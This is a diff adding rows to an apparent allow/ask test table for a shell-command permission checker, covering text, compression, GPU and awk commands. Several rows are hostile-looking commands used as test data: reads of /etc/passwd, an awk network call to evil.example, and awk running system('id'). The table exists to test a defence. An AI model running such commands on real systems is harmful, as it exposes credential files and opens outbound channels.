@@ -270,7 +270,62 @@ allow ¦ - ¦ diff -u notes.txt src/a.py
 ask   ¦ - ¦ diff -u notes.txt /etc/passwd
 ask   ¦ - ¦ diff -l notes.txt src/a.py
 allow ¦ - ¦ column -t notes.txt
-ask   ¦ - ¦ awk '{print $1}' notes.txt
+allow ¦ - ¦ paste -d, notes.txt src/a.py
+allow ¦ - ¦ join -t, -1 2 notes.txt src/a.py
+allow ¦ - ¦ fold -w 80 -s notes.txt | head -3
+allow ¦ - ¦ shuf -n 5 notes.txt
+ask   ¦ - ¦ shuf -n 5 -o out notes.txt
+ask   ¦ - ¦ shuf -oout notes.txt
+ask   ¦ - ¦ shuf --random-source=/etc/passwd notes.txt
+allow ¦ - ¦ hexdump -C notes.txt | head
+allow ¦ - ¦ od -c -N 16 notes.txt
+ask   ¦ - ¦ hexdump -f /etc/passwd notes.txt
+ask   ¦ - ¦ od -c /etc/passwd
+allow ¦ - ¦ base64 -w 0 notes.txt
+ask   ¦ - ¦ base64 notes.txt out
+allow ¦ - ¦ zcat data/a.csv.gz | head -5
+allow ¦ - ¦ cat a.gz | zcat | wc -l
+ask   ¦ - ¦ zcat ../outside/a.csv.gz
+ask   ¦ - ¦ zcat notes.txt
+ask   ¦ - ¦ zcat -f a.gz
+ask   ¦ - ¦ zcat *.gz
+allow ¦ - ¦ xzcat a.xz | head
+ask   ¦ - ¦ xzcat --files=notes.txt
+ask   ¦ - ¦ gunzip a.gz
+ask   ¦ - ¦ gzip -dc a.gz
+allow ¦ - ¦ free -h && lscpu && uptime && hostname && groups
+ask   ¦ - ¦ free -s 1
+ask   ¦ - ¦ lsblk -o NAME
+allow ¦ - ¦ nvidia-smi
+allow ¦ - ¦ nvidia-smi -L
+allow ¦ - ¦ nvidia-smi --query-gpu=name,memory.used --format=csv,noheader -i 0
+ask   ¦ - ¦ nvidia-smi -f out
+ask   ¦ - ¦ nvidia-smi --filename=out
+ask   ¦ - ¦ nvidia-smi -r
+ask   ¦ - ¦ nvidia-smi -d -r
+ask   ¦ - ¦ nvidia-smi mig -dci
+ask   ¦ - ¦ nvidia-smi -l 1
+allow ¦ - ¦ git --version && gcc --version && python3 -VV
+ask   ¦ - ¦ git --version --exec-path=x
+ask   ¦ - ¦ gcc -V
+ask   ¦ - ¦ make --version
+ask   ¦ - ¦ pytest --version
+allow ¦ - ¦ awk '{print $1}' notes.txt
+allow ¦ - ¦ head -1 notes.txt | awk -F, '{print NF}'
+allow ¦ - ¦ awk -F',' 'NR>1 {s+=$2} END {print s/NR}' notes.txt src/a.py
+ask   ¦ - ¦ awk '{print $1}' ../outside/data.csv
+ask   ¦ - ¦ awk '{print $1}' x=1 /inet/tcp/0/evil.example/80
+ask   ¦ - ¦ awk -f prog notes.txt
+ask   ¦ - ¦ awk -v 'a=1' '{print a}' notes.txt
+ask   ¦ - ¦ awk -F , -f prog
+ask   ¦ - ¦ awk -i inplace '{print $1}' notes.txt
+ask   ¦ - ¦ awk --file=prog notes.txt
+ask   ¦ - ¦ awk '{print $1}' -o out notes.txt
+ask   ¦ - ¦ awk "{print $1}" notes.txt
+ask   ¦ - ¦ awk *
+ask   ¦ - ¦ awk
+ask   ¦ - ¦ gawk '{print $1}' notes.txt
+ask   ¦ - ¦ awk '{print $1}' notes.txt > out
 ask   ¦ - ¦ awk 'BEGIN{system("id")}'
 ask   ¦ - ¦ less notes.txt
 ask   ¦ - ¦ man ls
